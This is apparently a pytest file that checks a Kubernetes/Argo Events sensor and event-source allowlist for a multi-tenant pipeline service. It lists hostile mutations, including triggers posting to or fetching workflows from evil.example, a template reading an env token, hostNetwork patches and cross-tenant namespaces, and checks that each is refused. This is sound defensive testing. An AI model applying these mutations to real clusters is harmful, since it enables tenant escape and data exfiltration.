"""The event allowlist against hostile sensors and event sources: each mutation of a rendered
object that would let a sensor do anything but submit the current template in the tenant's
namespace is refused, by path and rule; arbitrary junk never crashes it."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from compiler.automation import event_objects as ev
from compiler.automation.sensor_check import (
    Confinement,
    event_source_violations,
    raise_if_refused,
    sensor_violations,
)
from shared.errors import Refused
from shared.pipelines import WebhookTrigger

EVENTS = "kubeopera-pipeline-events"
TARGET = ev.EventsTarget(EVENTS, None, "kubeopera-data")
REF = ev.PipelineVersion("acme", "data", "abc123", 2, "p-abc123-v2", [{"name": "file"}])
RULES = Confinement(EVENTS, "acme", "abc123", "p-abc123-v2", "kubeopera-data")
TRIGGER = WebhookTrigger(name="t", type="webhook", parameters={"file": "body.f"})
ACTION = "spec.triggers[0].template.argoWorkflow"
RESOURCE = f"{ACTION}.source.resource"

Mutation = Callable[[dict[str, Any]], None]


def _action(sensor: dict[str, Any]) -> dict[str, Any]:
    action: dict[str, Any] = sensor["spec"]["triggers"][0]["template"]["argoWorkflow"]
    return action


def _resource(sensor: dict[str, Any]) -> dict[str, Any]:
    resource: dict[str, Any] = _action(sensor)["source"]["resource"]
    return resource


def _set(path: Callable[[dict[str, Any]], dict[str, Any]], key: str, value: Any) -> Mutation:
    def mutate(sensor: dict[str, Any]) -> None:
        path(sensor)[key] = value

    return mutate


def _template(sensor: dict[str, Any]) -> dict[str, Any]:
    template: dict[str, Any] = sensor["spec"]["triggers"][0]["template"]
    return template


def _k8s_trigger(sensor: dict[str, Any]) -> None:
    template = _template(sensor)
    template["k8s"] = {"operation": "create", "source": template.pop("argoWorkflow")["source"]}


def _http_trigger(sensor: dict[str, Any]) -> None:
    template = _template(sensor)
    del template["argoWorkflow"]
    template["http"] = {"url": "http://evil.example", "method": "POST"}


HOSTILE: list[tuple[str, Mutation, str, str]] = [
    ("k8s trigger", _k8s_trigger, "spec.triggers[0].template.k8s", "field"),
    ("http trigger", _http_trigger, "spec.triggers[0].template", "trigger_type"),
    (
        "a second action beside the workflow",
        _set(_template, "log", {"intervalSeconds": 1}),
        "spec.triggers[0].template.log",
        "field",
    ),
    (
        "another tenant's namespace",
        lambda s: _resource(s)["metadata"].update(namespace="kubeopera-data-globex"),
        f"{RESOURCE}.metadata.namespace",
        "namespace",
    ),
    (
        "the events namespace itself",
        lambda s: _resource(s)["metadata"].update(namespace=EVENTS),
        f"{RESOURCE}.metadata.namespace",
        "namespace",
    ),
    (
        "inline templates",
        lambda s: _resource(s)["spec"].update(templates=[{"name": "x", "container": {}}]),
        f"{RESOURCE}.spec.templates",
        "field",
    ),
    (
        "podSpecPatch",
        lambda s: _resource(s)["spec"].update(podSpecPatch='{"hostNetwork": true}'),
        f"{RESOURCE}.spec.podSpecPatch",
        "field",
    ),
    (
        "another service account",
        lambda s: _resource(s)["spec"].update(serviceAccountName="default"),
        f"{RESOURCE}.spec.serviceAccountName",
        "field",
    ),
    (
        "another template",
        lambda s: _resource(s)["spec"].update(workflowTemplateRef={"name": "p-other-v1"}),
        f"{RESOURCE}.spec.workflowTemplateRef",
        "template_ref",
    ),
    (
        "an older version's template",
        lambda s: _resource(s)["spec"].update(workflowTemplateRef={"name": "p-abc123-v1"}),
        f"{RESOURCE}.spec.workflowTemplateRef",
        "template_ref",
    ),
    (
        "a cluster template",
        lambda s: _resource(s)["spec"].update(
            workflowTemplateRef={"name": "p-abc123-v2", "clusterScope": True}
        ),
        f"{RESOURCE}.spec.workflowTemplateRef",
        "template_ref",
    ),
    (
        "no instance ID: the CI/CD controller would run it",
        lambda s: _resource(s)["metadata"]["labels"].pop(
            "workflows.argoproj.io/controller-instanceid"
        ),
        f"{RESOURCE}.metadata.labels",
        "instance_id",
    ),
    (
        "a parameter from a ConfigMap",
        lambda s: _resource(s)["spec"]["arguments"]["parameters"][0].update(
            valueFrom={"configMapKeyRef": {"name": "x", "key": "y"}}
        ),
        f"{RESOURCE}.spec.arguments.parameters[0].valueFrom",
        "field",
    ),
    (
        "artifacts",
        lambda s: _resource(s)["spec"]["arguments"].update(artifacts=[{"name": "a"}]),
        f"{RESOURCE}.spec.arguments.artifacts",
        "field",
    ),
    (
        "a named workflow",
        lambda s: _resource(s)["metadata"].update(name="fixed"),
        f"{RESOURCE}.metadata.name",
        "field",
    ),
    (
        "a Pod instead of a Workflow",
        lambda s: _resource(s).update(apiVersion="v1", kind="Pod"),
        f"{RESOURCE}.kind",
        "kind",
    ),
    (
        "an operation other than submit",
        _set(_action, "operation", "resubmit"),
        f"{ACTION}.operation",
        "operation",
    ),
    (
        "extra CLI arguments",
        _set(_action, "args", ["--instanceid", "kubeopera-data", "--serviceaccount", "x"]),
        f"{ACTION}.args",
        "args",
    ),
    (
        "another controller",
        _set(_action, "args", ["--instanceid", "cicd"]),
        f"{ACTION}.args",
        "args",
    ),
    (
        "a resource fetched from a URL",
        _set(_action, "source", {"url": {"path": "https://evil.example/wf.yaml"}}),
        f"{ACTION}.source.url",
        "field",
    ),
    (
        "a parameter rewriting the namespace",
        lambda s: _action(s)["parameters"][0].update(dest="metadata.namespace"),
        f"{ACTION}.parameters[0].dest",
        "parameter",
    ),
    (
        "a parameter writing the template reference",
        lambda s: _action(s)["parameters"][0].update(dest="spec.workflowTemplateRef.name"),
        f"{ACTION}.parameters[0].dest",
        "parameter",
    ),
    (
        "a parameter past the arguments",
        lambda s: _action(s)["parameters"][0].update(dest="spec.arguments.parameters.1.value"),
        f"{ACTION}.parameters[0].dest",
        "parameter",
    ),
    (
        "a Go template",
        lambda s: _action(s)["parameters"][0]["src"].update(dataTemplate='{{ env "TOKEN" }}'),
        f"{ACTION}.parameters[0].src.dataTemplate",
        "field",
    ),
    (
        "a gjson modifier",
        lambda s: _action(s)["parameters"][0]["src"].update(dataKey="body|@this"),
        f"{ACTION}.parameters[0].src.dataKey",
        "parameter",
    ),
    (
        "another dependency's event",
        lambda s: _action(s)["parameters"][0]["src"].update(dependencyName="other"),
        f"{ACTION}.parameters[0].src.dependencyName",
        "parameter",
    ),
    (
        "an appending parameter",
        lambda s: _action(s)["parameters"][0].update(operation="append"),
        f"{ACTION}.parameters[0].operation",
        "field",
    ),
    (
        "trigger-level parameters (they rewrite the trigger itself)",
        lambda s: s["spec"]["triggers"][0].update(
            parameters=[
                {
                    "src": {"dependencyName": "t", "dataKey": "body.ns"},
                    "dest": "argoWorkflow.source.resource.metadata.namespace",
                }
            ]
        ),
        "spec.triggers[0].parameters",
        "field",
    ),
    (
        "a retry (a duplicate submit)",
        lambda s: s["spec"]["triggers"][0].update(retryStrategy={"steps": 3}),
        "spec.triggers[0].retryStrategy",
        "field",
    ),
    (
        "another account",
        lambda s: s["spec"]["template"].update(serviceAccountName="kubeopera-sensor-globex"),
        "spec.template.serviceAccountName",
        "service_account",
    ),
    (
        "a pod spec for the sensor",
        lambda s: s["spec"]["template"].update(container={"image": "evil"}),
        "spec.template.container",
        "field",
    ),
    (
        "another event source",
        lambda s: s["spec"]["dependencies"][0].update(eventSourceName="p-other"),
        "spec.dependencies[0].eventSourceName",
        "dependency",
    ),
    (
        "a dependency filter",
        lambda s: s["spec"]["dependencies"][0].update(filters={"script": "return true"}),
        "spec.dependencies[0].filters",
        "field",
    ),
    (
        "no conditions (it would wait for every dependency)",
        lambda s: _template(s).pop("conditions"),
        "spec.triggers[0].template.conditions",
        "conditions",
    ),
    (
        "another namespace for the sensor",
        lambda s: s["metadata"].update(namespace="kubeopera-data-acme"),
        "metadata.namespace",
        "namespace",
    ),
    (
        "an event bus of its own choosing",
        lambda s: s["spec"].update(eventBusName="elsewhere"),
        "spec.eventBusName",
        "field",
    ),
]


def sensor() -> dict[str, Any]:
    return ev.sensor(REF, TARGET, [TRIGGER])


def test_the_rendered_sensor_passes() -> None:
    assert sensor_violations(sensor(), RULES) == []


@pytest.mark.parametrize(
    ("mutate", "path", "rule"), [case[1:] for case in HOSTILE], ids=[case[0] for case in HOSTILE]
)
def test_a_hostile_sensor_is_refused_by_path_and_rule(
    mutate: Mutation, path: str, rule: str
) -> None:
    hostile = sensor()
    mutate(hostile)
    found = {(v.path, v.rule) for v in sensor_violations(hostile, RULES)}
    assert (path, rule) in found, found


def test_a_refusal_is_a_422_listing_every_violation() -> None:
    hostile = sensor()
    _set(_action, "operation", "resume")(hostile)
    _resource(hostile)["spec"]["podSpecPatch"] = "{}"
    with pytest.raises(Refused) as refused:
        raise_if_refused(sensor_violations(hostile, RULES), "sensor")
    assert len(refused.value.details["violations"]) == 2
    assert "sensor" in refused.value.message
    raise_if_refused([], "sensor")


EVENT_SOURCE_HOSTILE: list[tuple[str, Mutation, str, str]] = [
    (
        "no token",
        lambda s: s["spec"]["webhook"]["t"].pop("authSecret"),
        "spec.webhook.t.authSecret",
        "token",
    ),
    (
        "another pipeline's tokens",
        lambda s: s["spec"]["webhook"]["t"].update(authSecret={"name": "p-x-webhooks", "key": "t"}),
        "spec.webhook.t.authSecret",
        "token",
    ),
    (
        "another path",
        lambda s: s["spec"]["webhook"]["t"].update(endpoint="/hooks/other/t"),
        "spec.webhook.t.endpoint",
        "endpoint",
    ),
    (
        "a GET",
        lambda s: s["spec"]["webhook"]["t"].update(method="GET"),
        "spec.webhook.t.method",
        "endpoint",
    ),
    (
        "an unbounded payload",
        lambda s: s["spec"]["webhook"]["t"].update(maxPayloadSize=10**9),
        "spec.webhook.t.maxPayloadSize",
        "payload",
    ),
    (
        "another source type",
        lambda s: s["spec"].update(calendar={"x": {"interval": "1s"}}),
        "spec.calendar",
        "field",
    ),
    (
        "a filter",
        lambda s: s["spec"]["webhook"]["t"].update(filter={"expression": "true"}),
        "spec.webhook.t.filter",
        "field",
    ),
    (
        "a pod template",
        lambda s: s["spec"].update(template={"serviceAccountName": "admin"}),
        "spec.template",
        "field",
    ),
]


@pytest.mark.parametrize(
    ("mutate", "path", "rule"),
    [case[1:] for case in EVENT_SOURCE_HOSTILE],
    ids=[case[0] for case in EVENT_SOURCE_HOSTILE],
)
def test_a_hostile_event_source_is_refused(mutate: Mutation, path: str, rule: str) -> None:
    hostile = ev.event_source(REF, TARGET, [TRIGGER])
    assert event_source_violations(copy.deepcopy(hostile), RULES) == []
    mutate(hostile)
    found = {(v.path, v.rule) for v in event_source_violations(hostile, RULES)}
    assert (path, rule) in found, found


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4)
    ),
    max_leaves=30,
)


@settings(max_examples=300, deadline=None)
@given(_JSON)
def test_junk_is_refused_never_crashes(junk: Any) -> None:
    assert sensor_violations(junk, RULES)
    assert event_source_violations(junk, RULES)


@pytest.mark.parametrize("kind", ["sensor", "event source"])
@settings(max_examples=300, deadline=None)
@given(data=st.data())
def test_junk_anywhere_never_crashes(kind: str, data: st.DataObject) -> None:
    """Replace one value anywhere in a valid object with junk: a verdict, never an exception."""
    document = sensor() if kind == "sensor" else ev.event_source(REF, TARGET, [TRIGGER])
    nodes: list[tuple[Any, Any]] = []

    def walk(node: Any) -> None:
        items = node.items() if isinstance(node, dict) else enumerate(node)
        for key, value in list(items):
            nodes.append((node, key))
            if isinstance(value, dict | list):
                walk(value)

    walk(document)
    parent, key = data.draw(st.sampled_from(nodes))
    parent[key] = data.draw(_JSON)
    sensor_violations(document, RULES)
    event_source_violations(document, RULES)
